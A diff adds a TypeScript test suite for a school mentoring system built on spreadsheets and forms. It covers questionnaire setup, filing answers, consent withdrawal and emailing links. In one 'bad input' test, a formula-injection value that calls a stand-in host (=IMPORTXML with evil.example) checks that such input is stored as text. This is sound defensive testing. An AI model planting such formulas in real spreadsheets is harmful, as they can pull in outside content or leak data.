@@ -1,0 +1,317 @@
+import {
+  CONSENT_CHOICE,
+  DUTIES_YES,
+  menteeForm,
+  mentorForm,
+  WITHDRAWAL_CHOICE,
+  withdrawalForm,
+  type FormDefinition,
+} from '../../src/domain/questionnaires';
+import type { Workspace } from '../../emulator/workspace';
+import { records, ROADMAP, setUpWorkspace } from './workspace';
+
+const MENTEES = 'Наставляемые';
+const MENTORS = 'Наставники';
+const defs = {
+  mentee: menteeForm({ operator: 'x' }),
+  mentor: mentorForm({ operator: 'x' }),
+  withdrawal: withdrawalForm({ operator: 'x' }),
+};
+
+/** Answers by question key → answers by the question titles the teacher sees. */
+function byTitle(def: FormDefinition, answers: Record<string, string | string[]>): Record<string, string | string[]> {
+  return Object.fromEntries(
+    Object.entries(answers).map(([key, v]) => [def.questions.find((q) => q.key === key)!.title, v]),
+  );
+}
+
+function menteeAnswers(overrides: Record<string, string | string[]> = {}) {
+  return byTitle(defs.mentee, {
+    fullName: 'Петрова Анна Сергеевна',
+    position: 'Учитель',
+    subjects: ['Математика'],
+    experience: '2',
+    category: 'Без категории',
+    requests: ['Оценивание образовательных результатов', 'Работа с родителями (законными представителями)'],
+    formatKind: 'Индивидуальная (пара)',
+    mode: 'Очно',
+    times: ['После уроков'],
+    consent: [CONSENT_CHOICE],
+    ...overrides,
+  });
+}
+
+function mentorAnswers(overrides: Record<string, string | string[]> = {}) {
+  return byTitle(defs.mentor, {
+    fullName: 'Соколов Игорь Петрович',
+    position: 'Учитель',
+    subjects: ['Математика'],
+    experience: '24',
+    category: 'Высшая',
+    competences: ['Оценивание образовательных результатов'],
+    capacity: '2',
+    formatKinds: ['Индивидуальная (пара)'],
+    mode: 'Очно',
+    dutiesConsent: DUTIES_YES,
+    consent: [CONSENT_CHOICE],
+    ...overrides,
+  });
+}
+
+async function withForms(): Promise<Workspace> {
+  const ws = await setUpWorkspace();
+  ws.run('setupQuestionnaires');
+  ws.resetCalls();
+  return ws;
+}
+
+const bank = (ws: Workspace, sheet: string) => records(ws, sheet);
+/** The response sheet of a questionnaire, by its title. */
+const responseSheet = (ws: Workspace, title: string) => ws.forms().find((f) => f.title === title)!.responseSheet!;
+
+describe('questionnaires are built by code', () => {
+  test('three forms, in Russian, with the questions of the definitions; links in «Настройки»', async () => {
+    const ws = await withForms();
+    const forms = ws.forms();
+    expect(forms.map((f) => f.title)).toEqual(['Анкета наставляемого', 'Анкета наставника', 'Отзыв согласия']);
+    const mentee = forms[0];
+    expect(mentee.items.map((i) => i.title)).toEqual(defs.mentee.questions.map((q) => q.title));
+    const requests = mentee.items.find(
+      (i) => i.title === defs.mentee.questions.find((q) => q.key === 'requests')!.title,
+    )!;
+    expect(requests.choices).toContain('Работа с родителями (законными представителями)');
+    const settings = Object.fromEntries(ws.values('Настройки')!.map(([k, v]) => [k, v]));
+    expect(settings['Анкета наставляемого: ссылка']).toBe(mentee.url);
+  });
+
+  test('running it again updates in place: no duplicate forms, questions or triggers', async () => {
+    const ws = await withForms();
+    const before = ws.forms();
+    ws.run('setupQuestionnaires');
+    ws.run('setupQuestionnaires');
+    expect(ws.forms()).toEqual(before);
+    expect(ws.triggers().filter((t) => t.eventType === 'ON_FORM_SUBMIT')).toHaveLength(1);
+    expect(ws.sheetNames().filter((n) => n.startsWith('Ответы на форму'))).toHaveLength(3);
+  });
+
+  test('a list edited in «Справочники» reaches the form on «Обновить анкеты»', async () => {
+    const ws = await withForms();
+    const lists = ws.values('Справочники')!;
+    const col = lists[0].indexOf('Компетенции (запросы)');
+    const row = lists.findIndex((r) => r[col] === '') + 1;
+    ws.edit('Справочники', `${String.fromCharCode(65 + col)}${row}`, 'Наставничество в цифровой среде');
+    ws.run('setupQuestionnaires');
+    const requests = ws
+      .forms()[0]
+      .items.find((i) => i.type === 'CHECKBOX' && i.choices.includes('Наставничество в цифровой среде'));
+    expect(requests).toBeDefined();
+  });
+});
+
+describe('answers land in the banks', () => {
+  test('a mentee answer becomes one clean record; stage 2 starts on the roadmap; «Сводка» counts it', async () => {
+    const ws = await withForms();
+    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: '  Petrova@School2.example ' });
+    const rows = bank(ws, MENTEES);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({
+      ID: 'НС-0001',
+      Email: 'petrova@school2.example',
+      ФИО: 'Петрова Анна Сергеевна',
+      'Стаж, лет': '2',
+      Запросы: 'Оценивание образовательных результатов; Работа с родителями (законными представителями)',
+      Статус: 'новый',
+      'Согласие на обработку ПДн': '25.11.2026',
+    });
+    expect(records(ws, ROADMAP).find((r) => r['№'] === '2.1')!['Статус']).toBe('В работе');
+    const summary = ws.values('Сводка')!;
+    expect(summary.find((r) => r[1] === 'Наставляемые: ответов')!.slice(2, 5)).toEqual(['1', 'в банке', '1']);
+  });
+
+  test('a resubmission updates the same row and notes it in the history', async () => {
+    const ws = await withForms();
+    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
+    ws.advance(60 * 60 * 1000);
+    ws.submitForm('Анкета наставляемого', menteeAnswers({ mode: 'Дистанционно' }), {
+      email: 'PETROVA@school2.example',
+    });
+    const rows = bank(ws, MENTEES);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]['Формат']).toBe('Дистанционно');
+    expect(rows[0]['История']).toMatch(/анкета обновлена \(изменены: формат\)/);
+  });
+
+  test('a mentor answer lands in «Наставники» with capacity and the consent to the duties', async () => {
+    const ws = await withForms();
+    ws.submitForm('Анкета наставника', mentorAnswers(), { email: 'sokolov@school2.example' });
+    expect(bank(ws, MENTORS)[0]).toMatchObject({
+      ID: 'НТ-0001',
+      'Наставляемых, не более': '2',
+      'Согласие на доп. обязанности': 'Да',
+    });
+    expect(records(ws, ROADMAP).find((r) => r['№'] === '3.1')!['Статус']).toBe('В работе');
+  });
+
+  test('the same response processed twice, and 200 interleaved ones, lose and duplicate nothing', async () => {
+    const ws = await withForms();
+    for (let i = 0; i < 200; i++) {
+      ws.submitForm('Анкета наставляемого', menteeAnswers({ fullName: `Учитель ${i}` }), {
+        email: `t${i % 150}@school2.example`,
+        deferTriggers: true,
+      });
+      ws.advance(1000);
+    }
+    ws.flushFormTriggers({ order: 'shuffle', duplicate: true });
+    const rows = bank(ws, MENTEES);
+    expect(rows).toHaveLength(150);
+    expect(new Set(rows.map((r) => r.Email)).size).toBe(150);
+    // The last answer of each person wins, whatever order the triggers ran in.
+    expect(rows.find((r) => r.Email === 't10@school2.example')!['ФИО']).toBe('Учитель 160');
+  });
+});
+
+describe('bad input', () => {
+  test('formula-looking answers are stored as text; long answers are cut with a note', async () => {
+    const ws = await withForms();
+    ws.submitForm(
+      'Анкета наставляемого',
+      menteeAnswers({ fullName: '=IMPORTXML("http://evil.example","//a")', note: 'x'.repeat(3000) }),
+      { email: 'petrova@school2.example' },
+    );
+    const row = bank(ws, MENTEES)[0];
+    expect(row['ФИО']).toBe('=IMPORTXML("http://evil.example","//a")');
+    expect(row['Комментарий'].length).toBeLessThanOrEqual(2000);
+    expect(row['Замечания']).toMatch(/Комментарий|сокращ|обрез/i);
+    const sheet = ws.model.sheets.find((s) => s.name === MENTEES)!;
+    expect(sheet.rows.flat().some((cell) => cell?.formula)).toBe(false);
+  });
+
+  test('an address that does not look like one is kept and flagged, not dropped', async () => {
+    const ws = await withForms();
+    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
+    const sheetName = responseSheet(ws, 'Анкета наставляемого');
+    // Staff paste an answer from a paper questionnaire, with the address as it was written.
+    const [, answer] = ws.values(sheetName)!;
+    const copy = answer.map((v, i) => (i === 0 ? '24.11.2026 09:00:00' : i === 1 ? 'ivanova(at)school2' : v));
+    ws.edit(sheetName, 'A3', [copy]);
+    ws.run('menuReplayResponses');
+    const row = bank(ws, MENTEES).find((r) => r.Email === 'ivanova(at)school2')!;
+    expect(row['Замечания']).toMatch(/выглядит неверно/);
+  });
+
+  test('staff moving columns in the response sheet does not break the handler', async () => {
+    const ws = await withForms();
+    const sheetName = responseSheet(ws, 'Анкета наставляемого');
+    const values = ws.values(sheetName)!;
+    // Swap the first two question columns (C and D), header included.
+    ws.edit(sheetName, 'C1:D1', [[values[0][3], values[0][2]]]);
+    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
+    expect(bank(ws, MENTEES)[0]).toMatchObject({ ФИО: 'Петрова Анна Сергеевна', Должность: 'Учитель' });
+  });
+
+  test('a question missing from the response sheet is a clear error in «Журнал», and nothing is filed', async () => {
+    const ws = await withForms();
+    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
+    const before = ws.values(MENTEES);
+    const sheetName = responseSheet(ws, 'Анкета наставляемого');
+    // Staff delete the column of a required question from the response sheet, then replay.
+    ws.spreadsheet().getActiveSpreadsheet().getSheetByName(sheetName)!.deleteColumn(3);
+    ws.run('menuReplayResponses');
+    expect(ws.values(MENTEES)).toEqual(before);
+    const log = ws
+      .values('Журнал')!
+      .map((r) => r.join(' '))
+      .join('\n');
+    expect(log).toMatch(/не найдены вопросы: Фамилия, имя, отчество/);
+    expect(log).not.toMatch(/Петрова/);
+    expect(ws.ui.dialogs[ws.ui.dialogs.length - 1]).toMatchObject({
+      kind: 'alert',
+      message: expect.stringMatching(/Проблемы/),
+    });
+  });
+});
+
+describe('consent', () => {
+  test("withdrawal removes the person's data from the banks and the response sheets", async () => {
+    const ws = await withForms();
+    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
+    ws.submitForm('Анкета наставника', mentorAnswers({ fullName: 'Петрова Анна Сергеевна' }), {
+      email: 'petrova@school2.example',
+    });
+    ws.submitForm('Отзыв согласия', byTitle(defs.withdrawal, { confirm: [WITHDRAWAL_CHOICE] }), {
+      email: 'petrova@school2.example',
+    });
+    const everything = ws
+      .sheetNames()
+      .flatMap((name) => ws.values(name)!)
+      .flat()
+      .join('\n');
+    expect(everything).not.toMatch(/petrova@school2\.example|Петрова Анна/);
+    expect(bank(ws, MENTEES)[0]).toMatchObject({ ID: 'НС-0001', ФИО: 'Отозвано согласие', Статус: 'отозвано' });
+    expect(ws.values('Журнал')!.flat().join(' ')).toMatch(/согласие отозвано/);
+  });
+
+  test('«Обработать ответы заново» rebuilds a damaged bank and removes answers without consent', async () => {
+    const ws = await withForms();
+    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
+    ws.submitForm('Анкета наставника', mentorAnswers(), { email: 'sokolov@school2.example' });
+    const sheetName = responseSheet(ws, 'Анкета наставляемого');
+    // An answer without consent pasted in from an old sheet by staff.
+    const header = ws.values(sheetName)![0];
+    const pasted = header.map((h, i) =>
+      i === 0
+        ? '20.11.2026 10:00:00'
+        : i === 1
+          ? 'old@school2.example'
+          : h === 'Фамилия, имя, отчество'
+            ? 'Старый Ответ'
+            : '',
+    );
+    ws.edit(sheetName, `A${ws.values(sheetName)!.length + 1}`, [pasted]);
+    ws.spreadsheet()
+      .getActiveSpreadsheet()
+      .deleteSheet(ws.spreadsheet().getActiveSpreadsheet().getSheetByName(MENTEES)!);
+
+    ws.run('menuReplayResponses');
+    expect(bank(ws, MENTEES).map((r) => r.Email)).toEqual(['petrova@school2.example']);
+    expect(bank(ws, MENTORS)).toHaveLength(1);
+    expect(ws.values(sheetName)!.flat().join(' ')).not.toMatch(/Старый Ответ|old@school2/);
+    // Again: nothing changes.
+    const before = ws.values(MENTEES);
+    ws.run('menuReplayResponses');
+    expect(ws.values(MENTEES)).toEqual(before);
+  });
+});
+
+describe('links', () => {
+  test('«Разослать ссылки» mails the links to the staff list; without a list it says what to do', async () => {
+    const ws = await withForms();
+    expect(() => ws.run('sendFormLinks')).toThrow('Укажите адреса для рассылки');
+    const settings = ws.values('Настройки')!;
+    const row = settings.findIndex((r) => r[0] === 'Адреса для рассылки ссылок') + 1 || settings.length + 1;
+    ws.edit('Настройки', `A${row}:B${row}`, [
+      ['Адреса для рассылки ссылок', 'zavuch@school2.example, uchitel@school2.example'],
+    ]);
+    ws.run('sendFormLinks');
+    const mail = ws.mail();
+    expect(mail).toHaveLength(1);
+    expect(mail[0].to).toEqual(['zavuch@school2.example', 'uchitel@school2.example']);
+    expect(mail[0].body).toContain(ws.forms()[0].url);
+  });
+});
+
+describe('service calls', () => {
+  async function callsPerSubmission(people: number): Promise<number> {
+    const ws = await withForms();
+    for (let i = 0; i < people; i++) {
+      ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: `t${i}@school2.example` });
+    }
+    ws.resetCalls();
+    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'new@school2.example' });
+    return ws.calls().total;
+  }
+
+  test('a submission costs the same number of calls with 10 or 100 people in the bank', async () => {
+    expect(await callsPerSubmission(100)).toBe(await callsPerSubmission(10));
+  });
+});
